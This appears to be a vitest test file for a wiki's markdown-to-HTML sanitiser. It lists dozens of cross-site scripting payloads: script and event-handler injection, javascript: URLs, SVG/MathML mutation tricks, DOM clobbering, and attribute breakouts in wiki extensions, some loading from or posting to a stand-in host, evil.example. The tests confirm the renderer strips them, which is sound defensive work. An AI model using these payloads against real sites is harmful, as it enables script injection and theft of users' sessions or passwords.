import { describe, expect, test } from 'vitest';
import { dangersIn } from './dangers.ts';
import { compiled, html, joined } from './rendered.ts';

/** What attackers have tried on wikis; section and version where a known hole is meant. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'scripts in raw HTML': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<b onclick=alert(1)>x</b>',
    '<img src=x onerror="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<a href="x" ONMOUSEOVER=alert(1)>x</a>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<body onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src=x>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
  ],
  'addresses that run something': [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](java&#x09;script:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x](data:text/html,<script>alert(1)</script>)',
    '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[[javascript:alert(1)]]',
    '[[x|javascript:alert(1)]]',
    '[[//evil.example/x]]',
    '[[\\\\evil.example]]',
    '<a data-state="wiki" href="javascript:alert(1)">x</a>',
    '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  ],
  'SVG and MathML': [
    '<svg onload=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  'style, forms and the head of a document': [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<style>@import "//evil.example/x.css"</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
    '<input type=image src=x onerror=alert(1)>',
    '<a href="//example.org" target="_self" rel="opener">x</a>',
    '<a href="x" ping="//evil.example">x</a>',
  ],
  'clobbering of the document': [
    '<img name=getElementById>',
    '<a id=config></a><a id=config name=url href="//evil.example">x</a>',
    '<p id=search>x</p>',
    '<div class="modal fixed-top dropdown-menu show">x</div>',
  ],
  'attributes that break out of extensions (2.23.0, 2.20.7)': [
    '::: "><img/src=x/onerror=alert(1)>\nx\n:::',
    '::: info" onclick="alert(1)\nx\n:::',
    '::: info\n# <img src=x onerror=alert(1)>\nx\n:::',
    '>| # <img src=x onerror=alert(1)>\n>| x',
    '>| # "><script>alert(1)</script>',
    '>! <script>alert(1)</script>',
    'x[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: <b onclick=alert(1)>y</b>',
    '*[X]: "><img src=x onerror=alert(1)>\n\nX',
    '*["><img/src=x/onerror=alert(1)>]: y\n\n"><img/src=x/onerror=alert(1)>',
    '[["><img src=x onerror=alert(1)>]]',
    '[[x" onmouseover="alert(1)|y" onmouseover="alert(1)]]',
    '# "><img src=x onerror=alert(1)>',
    '# x" onclick="alert(1)',
    '![" onerror="alert(1)](x" onerror="alert(1))',
    '[x](y "z&quot; onclick=&quot;alert(1)")',
    '> [!NOTE" onclick="alert(1)]\n> x',
    '```js" onclick="alert(1)\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '```mermaid\n<img src=x onerror=alert(1)>\nclick A "javascript:alert(1)"\n```',
    '$\\href{javascript:alert(1)}{x}$ $\\unicode{<img src=x onerror=alert(1)>}$',
    '$<img src=x onerror=alert(1)>$',
    '---\ntitle: "\\"><img src=x onerror=alert(1)>"\n"<script>": "<script>alert(1)</script>"\n---\n\nx',
    '{{InfoBox\n|title="><img src=x onerror=alert(1)>\n|width=1px;background:url(javascript:alert(1))\n}}',
    '{{ImageFrame\n|src=javascript:alert(1)\n|caption=<script>alert(1)</script>\n}}',
    '{{Video\n|src=javascript:alert(1)\n}}',
    '{{"><img src=x onerror=alert(1)>}}',
  ],
  'quotes that stay open': [
    '<div title="\n\n# heading\n\n{{PageIndex}}\n\n[[A Page]]\n\n">',
    "<div title='\n\n# heading\n\n{{PageIndex}}\n\n'>",
    '<div title=\n\n{{PageIndex}}\n\n>',
    '<div id="\n\n# heading\n\n">',
    '<!--\n\n{{PageIndex}}\n\n--><img src=x onerror=alert(1)>',
    '<a title="`">`<img src=x onerror=alert(1)>">',
  ],
  'signs of our own references': [
    '\x000\0',
    '&#0;0&#0;',
    '<p title="\x000\0">x</p>',
    '<p title="&#0;0&#0;">[[x]]</p>',
    '[x](\x000\0)',
  ],
};

for (const [kind, sources] of Object.entries(ATTACKS)) {
  test(`${kind}: nothing is left but what the allow-list has`, async () => {
    for (const source of sources) {
      const page = await compiled(source);
      const anchors = new Set(page.refs.flatMap(ref => (ref.kind === 'anchor' ? [ref.anchor] : [])));
      expect(dangersIn(joined(page), anchors), source).toEqual([]);
      expect(page.html.join(''), source).not.toContain('\0');
    }
  });
}

describe('what the check itself finds', () => {
  test.each([
    '<script>x</script>',
    '<p onclick="x">y</p>',
    '<a href="javascript:x">y</a>',
    '<p id="a">x</p>',
    '<svg></svg>',
    '<img src="data:image/svg+xml,x">',
    '<math><annotation-xml></annotation-xml></math>',
    '<p style="x">y</p>',
  ])('%s is refused', attack => {
    expect(dangersIn(attack, new Set())).not.toEqual([]);
  });
});

test('what the operator allows is allowed, but for what no setting allows', async () => {
  const htmlAllowlist = new Map([
    ['video', ['src', 'controls', 'onplay']],
    ['kbd', ['style', 'id', 'data-key']],
    ['script', ['src']],
    ['iframe', ['src']],
  ]);
  const source =
    '<kbd data-key="a" style="x" id="y">k</kbd><video src="./a.mp4" controls onplay="x"></video><script src="x">s</script>';
  const result = await html(source, { htmlAllowlist });
  expect(result).toContain('<kbd data-key="a">k</kbd><video src="./a.mp4" controls=""></video>');
  expect(result).not.toMatch(/<script|onplay|style|id=/);
});

test('an embedding within an attribute is not put in', async () => {
  const page = await compiled("<div title='\n\n{{PageIndex}}\n\n'>x</div>");
  expect(page.refs.filter(ref => ref.kind === 'embed')).toEqual([]);
});

test('no reference to a place in the wiki has a scheme or names a host', async () => {
  const sources = Object.values(ATTACKS).flat();
  for (const source of sources) {
    for (const ref of (await compiled(source)).refs) {
      if (ref.kind !== 'link' && ref.kind !== 'source') continue;
      const url = URL.parse(ref.target, 'https://wiki.example.org/docs/');
      expect(url?.host ?? 'wiki.example.org', source).toBe('wiki.example.org');
    }
  }
});
